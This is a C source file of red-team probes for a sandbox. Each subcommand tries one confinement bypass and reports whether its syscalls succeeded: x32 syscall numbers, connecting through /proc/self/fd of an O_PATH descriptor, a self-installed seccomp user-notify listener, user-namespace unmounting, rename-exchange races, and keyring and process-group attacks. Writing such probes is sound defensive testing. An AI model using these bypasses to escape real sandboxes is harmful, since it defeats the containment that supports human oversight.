/* Attack probes for redteam.sh.  Each subcommand tries one attack and prints
 * what happened; exit 0 when the attack's syscalls all worked, 1 when one
 * failed, 2 on a usage error.
 *
 *   exchange A B SECONDS   swap A and B (RENAME_EXCHANGE) in a loop ("swapping"
 *                          after the first, "swaps:N" at the end)
 *   meta FILE              chmod, chown, utimes, setxattr, truncate on FILE
 *                          (every one must work for exit 0)
 *   userns-unlink PATH     unshare a user and a mount namespace (keeping the
 *                          new namespace's capabilities: no exec), then
 *                          umount2 PATH and remove it (unlink, or rmdir
 *                          for a directory)
 *   opath-connect PATH MSG connect an AF_UNIX stream socket to
 *                          /proc/self/fd/N of an O_PATH fd of PATH, send MSG
 *   x32-connect PATH MSG   socket + connect to PATH through x32 numbers
 *   notify-connect PATH MSG
 *                          install a seccomp filter of its own that sends
 *                          connect to a listener served by a child, which
 *                          answers SECCOMP_USER_NOTIF_FLAG_CONTINUE; then
 *                          connect to PATH and send MSG
 *   key-add DESC VALUE     add a "user" key DESC to the user keyring (@u)
 *   key-read DESC [drop]   find the key DESC (from @u), print its value
 *                          (and invalidate it with "drop")
 *   kill-group             ignore SIGUSR1, then kill(0, SIGUSR1)
 *   fds                    list open descriptors beyond 2 (prints "none")
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static const char* err_name(int e) {
    const char* n = strerrorname_np(e);
    return n ? n : strerror(e);
}

static int report(const char* what, long rc) {
    if (rc < 0) {
        printf("%s:%s\n", what, err_name(errno));
        return 1;
    }
    printf("%s:ok\n", what);
    return 0;
}

static int exchange(const char* a, const char* b, int seconds) {
    const time_t end = time(NULL) + seconds;
    long swaps = 0;
    while (time(NULL) < end)
        if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0 && ++swaps == 1) {
            printf("swapping\n"); /* said at once: the run may be stopped before the count */
            fflush(stdout);
        }
    if (swaps % 2) renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE); /* back as it was */
    printf("swaps:%ld\n", swaps);
    return swaps > 0 ? 0 : 1;
}

static int meta(const char* file) {
    int failed = 0;
    failed |= report("chmod", chmod(file, 0600));
    failed |= report("chown", chown(file, getuid(), getgid()));
    struct timespec times[2] = {{1, 0}, {1, 0}};
    failed |= report("utimes", utimensat(AT_FDCWD, file, times, 0));
    failed |= report("setxattr", setxattr(file, "user.sbx-redteam", "x", 1, 0));
    failed |= report("truncate", truncate(file, 0));
    return failed;
}

static int userns_unlink(const char* path) {
    if (report("unshare-user", unshare(CLONE_NEWUSER))) return 1;
    if (report("unshare-mount", unshare(CLONE_NEWNS))) return 1;
    int failed = report("umount2", umount2(path, MNT_DETACH));
    failed |= report("unlink", remove(path)); /* rmdir for a directory */
    return failed;
}

static int connect_path(int fd, const char* path, int x32) {
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
    if (x32) return (int)syscall(0x40000000L | 42, fd, &un, sizeof un);
    return connect(fd, (struct sockaddr*)&un, sizeof un);
}

static int send_msg(int fd, const char* msg) { return report("send", write(fd, msg, strlen(msg))); }

static int opath_connect(const char* path, const char* msg) {
    int target = open(path, O_PATH | O_CLOEXEC);
    if (report("open", target)) return 1;
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (report("socket", fd)) return 1;
    char via[64];
    snprintf(via, sizeof via, "/proc/self/fd/%d", target);
    if (report("connect", connect_path(fd, via, 0))) return 1;
    return send_msg(fd, msg);
}

static int x32_connect(const char* path, const char* msg) {
    int fd = (int)syscall(0x40000000L | 41, AF_UNIX, SOCK_STREAM, 0);
    if (report("socket", fd)) return 1;
    if (report("connect", connect_path(fd, path, 1))) return 1;
    return send_msg(fd, msg);
}

static int pass_fd(int sock, int fd) {
    char byte = 0;
    struct iovec iov = {&byte, 1};
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } control;
    memset(&control, 0, sizeof control);
    struct msghdr msg = {
        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf, .msg_controllen = sizeof control.buf};
    struct cmsghdr* c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &fd, sizeof fd);
    return sendmsg(sock, &msg, 0) == 1 ? 0 : -1;
}

static int notify_connect(const char* path, const char* msg) {
    int pair[2];
    if (report("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, pair))) return 1;
    pid_t child = fork();
    if (child == 0) { /* the accomplice: not under the new filter */
        char byte;
        struct iovec iov = {&byte, 1};
        union {
            char buf[CMSG_SPACE(sizeof(int))];
            struct cmsghdr align;
        } control;
        struct msghdr m = {
            .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf, .msg_controllen = sizeof control.buf};
        if (recvmsg(pair[1], &m, 0) != 1 || !CMSG_FIRSTHDR(&m)) _exit(3);
        int listener;
        memcpy(&listener, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof listener);
        for (;;) {
            struct seccomp_notif req;
            struct seccomp_notif_resp resp;
            memset(&req, 0, sizeof req);
            if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) _exit(0);
            memset(&resp, 0, sizeof resp);
            resp.id = req.id;
            resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
            ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
        }
    }
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_connect, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    int listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (report("seccomp", listener)) return 1;
    if (report("pass", pass_fd(pair[0], listener))) return 1;
    close(listener);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (report("socket", fd)) return 1;
    int rc = report("connect", connect_path(fd, path, 0));
    if (rc == 0) rc = send_msg(fd, msg);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    return rc;
}

/* The key syscalls by number (x86_64): no libkeyutils needed. */
static int key_add(const char* desc, const char* value) {
    return report("add_key", syscall(248, "user", desc, value, strlen(value), -4 /* @u */));
}

static int key_read(const char* desc, int drop) {
    long id = syscall(249, "user", desc, NULL, 0);
    if (report("request_key", id)) return 1;
    char value[128] = "";
    long n = syscall(250, 11 /* KEYCTL_READ */, id, value, sizeof value - 1);
    if (n >= 0 && n < (long)sizeof value) value[n] = '\0';
    printf("value:%s\n", value);
    if (drop) syscall(250, 21 /* KEYCTL_INVALIDATE */, id);
    return n < 0;
}

static int kill_group(void) {
    signal(SIGUSR1, SIG_IGN);
    /* No wait needed: a signal whose default action kills is acted on in
       kill() itself (the kernel marks every member of the group without a
       handler to die), so the ancestor runs none of its own code after. */
    return report("kill", kill(0, SIGUSR1));
}

static int fds(void) {
    DIR* d = opendir("/proc/self/fd");
    if (!d) return report("opendir", -1);
    int mine = dirfd(d), found = 0;
    struct dirent* e;
    while ((e = readdir(d)) != NULL) {
        int n = atoi(e->d_name);
        if (e->d_name[0] == '.' || n <= 2 || n == mine) continue;
        char link[64], target[256] = "";
        snprintf(link, sizeof link, "/proc/self/fd/%d", n);
        ssize_t len = readlink(link, target, sizeof target - 1);
        if (len > 0) target[len] = '\0';
        printf("%d:%s\n", n, target);
        found = 1;
    }
    closedir(d);
    if (!found) printf("none\n");
    return found;
}

int main(int argc, char** argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 2;
    const char* what = argv[1];
    if (strcmp(what, "exchange") == 0 && argc == 5) return exchange(argv[2], argv[3], atoi(argv[4]));
    if (strcmp(what, "meta") == 0 && argc == 3) return meta(argv[2]);
    if (strcmp(what, "userns-unlink") == 0 && argc == 3) return userns_unlink(argv[2]);
    if (strcmp(what, "opath-connect") == 0 && argc == 4) return opath_connect(argv[2], argv[3]);
    if (strcmp(what, "x32-connect") == 0 && argc == 4) return x32_connect(argv[2], argv[3]);
    if (strcmp(what, "notify-connect") == 0 && argc == 4) return notify_connect(argv[2], argv[3]);
    if (strcmp(what, "key-add") == 0 && argc == 4) return key_add(argv[2], argv[3]);
    if (strcmp(what, "key-read") == 0 && (argc == 3 || argc == 4)) return key_read(argv[2], argc == 4);
    if (strcmp(what, "kill-group") == 0 && argc == 2) return kill_group();
    if (strcmp(what, "fds") == 0 && argc == 2) return fds();
    fprintf(stderr, "redteam-probe: bad arguments\n");
    return 2;
}
